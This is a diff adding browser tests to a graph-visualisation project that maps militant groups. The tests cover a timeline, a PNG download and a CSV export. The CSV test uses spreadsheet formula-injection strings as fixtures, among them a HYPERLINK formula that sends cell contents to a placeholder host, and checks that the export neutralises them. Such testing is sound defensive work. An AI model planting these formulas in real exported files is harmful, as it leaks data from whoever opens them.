@@ -1,9 +1,15 @@
-"""The page's timeline in a real headless Chromium: events per month under the drawing, and the
-period chosen on it by mouse and keyboard, kept in the URL's fragment."""
+"""The page's timeline and downloads in a real headless Chromium: events per month under the
+drawing, the period chosen on it by mouse and keyboard and kept in the URL's fragment; the drawing
+as a PNG and the ties in view as a spreadsheet-safe CSV."""
 
 from __future__ import annotations
 
+import csv
+import io
+import struct
+import zlib
 from collections import Counter
+from pathlib import Path
 from typing import Any
 
 import networkx as nx
@@ -12,10 +18,10 @@ import pytest
 from actorgraph.page._render import render_html
 
 try:
-    from _pagegraph import fixture_graph
+    from _pagegraph import SEED, fixture_graph
     from test_page_browser import Loaded, browser, open_page
 except ImportError:  # tests/ imported as a package
-    from tests._pagegraph import fixture_graph
+    from tests._pagegraph import SEED, fixture_graph
     from tests.test_page_browser import Loaded, browser, open_page
 
 __all__ = ["browser", "open_page"]  # fixtures shared with test_page_browser
@@ -198,4 +204,119 @@ def test_a_graph_without_dates_has_no_timeline(open_page: Any) -> None:
     loaded = open_page(render_html(g))
     assert loaded.page.locator("#timeline").is_hidden()
     assert loaded.page.locator("#time-section").is_hidden()
+    assert loaded.console_errors == []
+
+
+# --------------------------------------------------------------------------- downloads
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+QUOTED = 'The group said "no", then\nleft, twice'
+
+
+def download_graph() -> nx.MultiDiGraph:
+    """The timeline graph with a tie whose claims a spreadsheet would run as formulas."""
+    g = timeline_graph()
+    g.add_edge(
+        "agd:iskp",
+        "agd:ttp",
+        key="ag:rivalOf",
+        label="rival of",
+        start="2015",
+        statements=[
+            {"source": SEED, "claim": FORMULA, "rank": "ag:PreferredRank", "start": "2015"},
+            {"source": SEED, "claim": "@SUM(1+1)"},
+            {"source": SEED, "claim": "+1 -1"},
+            {"source": SEED, "claim": "-2+3"},
+            {"claim": QUOTED},
+        ],
+        sources=[SEED],
+    )
+    return g
+
+
+def _download(loaded: Loaded, button: str) -> bytes:
+    with loaded.page.expect_download() as info:
+        loaded.page.click(button)
+    path = info.value.path()
+    assert path is not None
+    return Path(path).read_bytes()
+
+
+VISIBLE_TIES_JS = """() => actorgraph.graph.edges.filter(e => actorgraph.edgeVisible(e.id)).map(e =>
+  [actorgraph.meta.details[e.from].id, actorgraph.meta.edgeDetails[e.id].rel,
+   actorgraph.meta.details[e.to].id])"""
+
+
+def _csv_rows(data: bytes) -> list[dict[str, str]]:
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the encoding
+    text = data[3:].decode("utf-8")
+    assert "\r\n" in text
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_the_csv_lists_the_ties_in_view_with_claims_safe_for_a_spreadsheet(
+    open_page: Any,
+) -> None:
+    loaded = open_page(render_html(download_graph()))
+    page = loaded.page
+    _drag(loaded, "2016-01", "2017-12")  # some events and their ties leave the view
+    visible = {tuple(t) for t in page.evaluate(VISIBLE_TIES_JS)}
+    total = page.evaluate("actorgraph.graph.edges.length")
+    assert 0 < len(visible) < total
+    rows = _csv_rows(_download(loaded, "#download-csv"))
+    assert {(r["source id"], r["relation id"], r["target id"]) for r in rows} == visible
+    rival = [r for r in rows if r["relation id"] == "ag:rivalOf"]
+    assert rival[0]["source"] == "ISIS–K" and rival[0]["target"] == "Tehrik-i-Taliban Pakistan"
+    claims = [r["claim"] for r in rival]
+    # Formula starts neutralised with a leading ', other text exactly as it is.
+    assert claims == ["'" + FORMULA, "'@SUM(1+1)", "'+1 -1", "'-2+3", QUOTED]
+    assert rival[0]["rank"] == "Preferred"
+    assert rival[0]["source title"] == "Terrorism is resurging in Pakistan"
+    assert rival[0]["publisher"] == "Islamabad Policy Research Institute"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+    # A focused neighbourhood: only its ties (the rest is dimmed, not in view).
+    page.fill("#search", "ISKP")
+    page.click('#search-results button[data-node="agd:iskp"]')
+    page.click("#focus-1")
+    focused = {tuple(t) for t in page.evaluate(VISIBLE_TIES_JS)}
+    assert focused < visible
+    rows = _csv_rows(_download(loaded, "#download-csv"))
+    assert {(r["source id"], r["relation id"], r["target id"]) for r in rows} == focused
+    assert "ties in view" in page.locator("#download-status").inner_text()
+    assert loaded.requests == []
+    assert loaded.console_errors == []
+
+
+def _png_chunks(data: bytes) -> dict[bytes, bytes]:
+    chunks: dict[bytes, bytes] = {}
+    at = 8
+    while at < len(data):
+        (length,) = struct.unpack(">I", data[at : at + 4])
+        kind = data[at + 4 : at + 8]
+        body = data[at + 8 : at + 8 + length]
+        (crc,) = struct.unpack(">I", data[at + 8 + length : at + 12 + length])
+        assert crc == zlib.crc32(kind + body)
+        chunks[kind] = chunks.get(kind, b"") + body
+        at += 12 + length
+    return chunks
+
+
+def test_the_png_is_the_drawing_as_it_is(open_page: Any) -> None:
+    loaded = open_page(render_html(download_graph()))
+    page = loaded.page
+    data = _download(loaded, "#download-png")
+    assert data.startswith(b"\x89PNG\r\n\x1a\n")
+    chunks = _png_chunks(data)
+    width, height = struct.unpack(">II", chunks[b"IHDR"][:8])
+    canvas = page.evaluate(
+        "(() => { const c = actorgraph.network.canvas.frame.canvas; return [c.width, c.height]; })()"
+    )
+    assert [width, height] == canvas and width > 300 and height > 300
+    assert b"IEND" in chunks
+    # Not blank: the drawing's nodes, ties and labels on white give many different bytes.
+    pixels = zlib.decompress(chunks[b"IDAT"])
+    assert len(set(pixels)) > 20
+    assert 2_000 < len(data) < 20_000_000
+    assert page.locator("#download-status").inner_text().endswith(".png.")
+    assert loaded.requests == []
     assert loaded.console_errors == []
